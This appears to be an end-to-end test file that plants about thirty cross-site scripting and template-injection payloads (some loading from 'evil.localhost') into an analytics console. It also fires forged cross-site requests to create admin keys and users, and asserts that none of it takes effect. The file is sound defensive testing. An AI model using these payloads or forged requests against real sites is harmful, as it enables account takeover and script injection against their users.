"""Can a stranger act on the console? Probes in every field that comes from outside; forms that another site sends.

A probe that runs would open a dialog, ask for something, break the policy, or throw: the witness of `console` sees it.
"""

import uuid
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page

from e2e.console import Console, Witness, address, log_in, profile, settled
from e2e.filled import SHOP, create_site, event
from e2e.filled import Browser as Visitor
from e2e.website import Website
from e2e.world import World
from tests.killed.wait import until

PROBES = {
    "script": "<script>alert(1)</script>",
    "script of another host": "<script src=//evil.localhost/x.js></script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "end of a JSON block": '</script><script>alert(1)</script>{"a":"',
    "comment in a JSON block": "<!--<script>",
    "image": "<img src=x onerror=alert(1)>",
    "image without blanks": "<img/src=x/onerror=alert(1)>",
    "image of another host": "<img src=//evil.localhost/x.png>",
    "svg": "<svg/onload=alert(1)>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "frame of a script": "<iframe src=javascript:alert(1)></iframe>",
    "details": "<details open ontoggle=alert(1)>",
    "field": "<input autofocus onfocus=alert(1)>",
    "form": '<form action=//evil.localhost><button autofocus accesskey="x">Log in',
    "base": "<base href=//evil.localhost/>",
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.localhost/">',
    "address": "javascript:alert(1)",
    "address in disguise": "java\tscript:alert(1)//",
    "address of data": "data:text/html,<script>alert(1)</script>",
    "attribute in double quotes": '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "attribute in single quotes": "' autofocus onfocus='alert(1)' x='",
    "style": "</style><style>@import '//evil.localhost/x.css';*{background:url(//evil.localhost/x)}</style>",
    "template": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "template literal": "${alert(1)}`-alert(1)-`{{constructor.constructor('alert(1)')()}}",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;img src=x onerror=alert(1)&#x3e;",
    "end of the text": "</title></textarea></pre></svg></option></select><img src=x onerror=alert(1)>",
    "letters that become others": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e\u2028\u2029\ufeff+ADw-script+AD4-",
    "text from right to left": "\u202e\u2066<img src=x onerror=alert(1)>\u202d\u200b%00%3Cscript%3Ealert(1)",
}
"""What it tries → the text, which stands in every field."""

KEY = "onerror-alert-1"
"""The most that the name of a custom event can hold."""


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """One for all probes, which lie in it side by side."""
    world = World(tmp_path_factory.mktemp("world"))
    yield world
    world.close()


@pytest.fixture(scope="module")
def closed_key(world: World) -> str:
    """The key of a site that takes events from one origin only."""
    return create_site(world, "Closed", [SHOP])


def plant(world: World, probe: str, closed_key: str) -> str:
    """The probe in every field: what is taken, what is refused, who is refused. Returns the id of the event."""
    header = probe.replace("\t", " ").encode("latin-1", "ignore").decode("latin-1")
    there, coded = str(uuid.uuid4()), quote(probe)
    page = {
        "url": f"{SHOP}/{probe}?utm_source={coded}&utm_medium={coded}&utm_campaign={coded}&gclid={coded}#{probe}",
        "title": probe,
        "referrer": f"https://a.example/{probe}",
    }
    fields: dict[str, Any] = {
        "page": page,
        "properties": {probe: probe, "items": [{"name": probe, probe: [probe]}], "url": probe, "total": probe},
        "identifiers": {"ext_id": probe},
        "contact_properties": {"FIRSTNAME": probe, "CITY": probe, probe: probe},
        "object": {"type": probe, "id": probe},
    }
    visitor = Visitor(world, header)
    visitor.send(
        event(2, "page_visited", page={**page, "url": probe, "referrer": probe}),
        event(2, "page_visited", page=page),
        {**event(1, KEY, **fields), "id": there},
        {**event(1, "!"), "id": probe},
        event(1, probe, **fields),
        event(1, "page_visited", category=probe),
        {**event(1, "wished"), "occurred_at": probe},
    )
    Visitor(world, header, key=closed_key, origin=header).send(event(1, "wished", **fields))
    Visitor(world, header, key=probe).send(event(1, "wished", **fields))
    until(lambda: any(found["id"] == there for found in world.events(key=KEY)), 20)
    return there


@pytest.mark.parametrize("probe", PROBES.values(), ids=PROBES)
def test_what_a_stranger_writes_is_only_read(console: Console, world: World, closed_key: str, probe: str) -> None:
    """Every page that shows it, and every address that holds it."""
    there = plant(world, probe, closed_key)
    found = world.get(f"/api/events/{there}")
    page, coded = console(), quote(probe, safe="")
    visit(page, world, f"/events/{there}")
    assert probe.split()[0] in page.inner_text("main"), "it is there to be read"
    for path in [
        f"/contacts/{found['contact_id']}",
        f"/events?open={there}",
        f"/events?q={coded}&category={coded}&key={coded}&open={coded}&cursor={coded}&columns={coded}&{coded}={coded}",
        f"/contacts?q={coded}&before={coded}&tab={coded}",
        f"/events/rejected?code={coded}&site={coded}&from={coded}",
        f"/sessions/{found['session_id']}",
        f"/sessions?source={coded}&device={coded}&contact={coded}&from={coded}&by={coded}",
        f"/messages/new?event={coded}&contact={found['contact_id']}&who={coded}&start={coded}",
        f"/messages/outbox?q={coded}&state={coded}&contact={coded}&cursor={coded}",
        f"/messages/suppressions?q={coded}&cursor={coded}",
        f"/setup?site={coded}&tab={coded}",
        f"/settings/users/{coded}?{coded}={coded}",
        f"/catalogue?q={coded}&family={coded}",
        f"/catalogue/{coded}/{coded}",
        f"/login?back={coded}&once={coded}",
        f"/no-such-page/{coded}",
    ]:
        visit(page, world, path)


def test_probes_side_by_side_are_only_read(console: Console, world: World, closed_key: str) -> None:
    """The lists that show many of them, as pages and as JSON, at both widths."""
    for probe in list(PROBES.values())[:6]:
        plant(world, probe, closed_key)
    for width in 390, 1280:
        page = console(width=width)
        for path in [
            *("/setup", "/events", "/events/rejected", "/events?bots=include", "/contacts", "/sessions"),
            *("/catalogue?seen=1", f"/catalogue/custom/{KEY}", "/settings", "/settings/sites", "/settings/keys"),
            *("/events.json", "/events/rejected.json", "/contacts.json", "/sessions.json"),
        ]:
            visit(page, world, path)


def test_a_probe_that_comes_while_one_looks_is_only_read(console: Console, world: World, closed_key: str) -> None:
    """News on /setup and on /events are made of text, whether they are shown at once or counted."""
    setup, events = console(), console()
    setup.goto(address(world, "/setup"))
    events.goto(address(world, "/events"))
    there = plant(world, PROBES["image"], closed_key)
    news = events.locator(f"[data-news]:visible, a[href*='{there}']")
    assert until(lambda: setup.locator("[data-state=received]").count(), 15, rest=lambda: setup.wait_for_timeout(20))
    assert until(news.count, 15, rest=lambda: events.wait_for_timeout(20))


@pytest.mark.parametrize(
    "act",
    [
        "setTimeout(() => alert(1))",
        "setTimeout(() => { throw new Error('of a page') })",
        "document.body.append(Object.assign(new Image(), { src: '//evil.localhost/x.png' }))",
        "document.body.append(Object.assign(document.createElement('script'), { src: '/static/frame.js' }))",
        "fetch('/no-such-file').then(() => 0)",
        "document.body.setAttribute('onclick', 'alert(1)')",
    ],
)
def test_the_witness_sees(browser: Browser, world: World, act: str) -> None:
    """What a probe would do if it ran: each is a fault."""
    with browser.new_context(**profile()) as context:
        witness = Witness(context, world)
        page = log_in(context.new_page(), world)
        page.goto(address(world, "/contacts"))
        page.evaluate(f"() => {{ try {{ {act} }} catch (error) {{}} }}")
        assert until(lambda: witness.faults, 15, rest=lambda: page.wait_for_timeout(20))


def visit(page: Page, world: World, path: str) -> None:
    """Look at it, and where its links lead."""
    page.goto(address(world, path))
    settled(page)
    links = page.eval_on_selector_all("[href], [src], [action]", "all => all.map(e => e.href || e.src || e.action)")
    assert [] == [link for link in links if not str(link).startswith(("http://", "https://"))]
    home = address(world, "/")
    acting = page.eval_on_selector_all(
        "script, link, img, iframe, form, base", "all => all.map(e => e.src || e.action)"
    )
    assert [] == [link for link in acting if link and not link.startswith(home)]


# Another site -------------------------------------------------------------------------------------------------------

POSTS = [
    ("/logout", {}),
    ("/logout", {"csrf": "0" * 64}),
    ("/lists", {"name": "Forged"}),
    ("/lists/1/import", {"text": "email_id\nforged@mail.example"}),
    ("/messages", {"name": "Forged", "subject": "x", "format": "html", "body": "x"}),
    ("/messages/blocks", {"name": "forged", "body": "x"}),
    ("/messages/1/send", {"whom": "anna@mail.example"}),
    ("/contacts/1/write", {"subject": "Forged", "text": "Forged"}),
    ("/settings/sites", {"name": "Forged", "origins": ""}),
    ("/settings/sites/1", {"name": "Forged", "origins": ""}),
    ("/settings/keys", {"name": "Forged", "scope": "admin"}),
    ("/settings/users", {"name": "forged", "role": "admin"}),
    ("/settings/account/logout", {}),
    ("/setup/origins", {"origin": "https://forged.example"}),
    ("/api/keys", {'{"scope": "admin", "name": "Forged", "x': '"}'}),
    ("/api/sites", {'{"name": "Forged", "x': '"}'}),
]

SUBMIT = """([address, fields, enctype]) => {
  const form = Object.assign(document.createElement("form"), { action: address, method: "post", enctype });
  for (const [name, value] of fields)
    form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
  document.body.append(form);
  form.submit();
}"""
FETCH = """([address, body]) =>
  fetch(address, { method: "POST", mode: "no-cors", credentials: "include", body }).catch(() => 0)"""


def definitions(world: World) -> Any:
    """What a forged request would change."""
    return tuple(world.get(f"/api/{noun}", limit=500)[noun] for noun in ("keys", "sites", "lists", "messages"))


@pytest.mark.parametrize("host", ["localhost", "www.shop.localhost"])
def test_another_site_changes_nothing(browser: Browser, world: World, website: Website, host: str) -> None:
    """By a form, by a script; also from the same machine's other port, where the browser sends the cookie along."""
    with browser.new_context(**profile()) as context:
        page = log_in(context.new_page(), world)
        page.goto(address(world, "/setup"))
        before = definitions(world)
        for path, given in POSTS:
            for enctype in "application/x-www-form-urlencoded", "text/plain", "multipart/form-data":
                page.goto(website.url("/", host=host))
                with page.expect_navigation():
                    page.evaluate(SUBMIT, [address(world, path), [*given.items()], enctype])
            page.goto(website.url("/", host=host))
            page.evaluate(FETCH, [address(world, path), '{"name": "Forged", "scope": "admin"}'])
        page.goto(address(world, "/setup"))
        assert address(world, "/setup") == page.url, "still logged in"
        now = definitions(world)
        assert [drop_use(part) for part in before] == [drop_use(part) for part in now]


def drop_use(rows: Any) -> Any:
    """The rows without when a key was last used: the test itself uses one."""
    return [{name: value for name, value in row.items() if name != "last_used_at"} for row in rows]
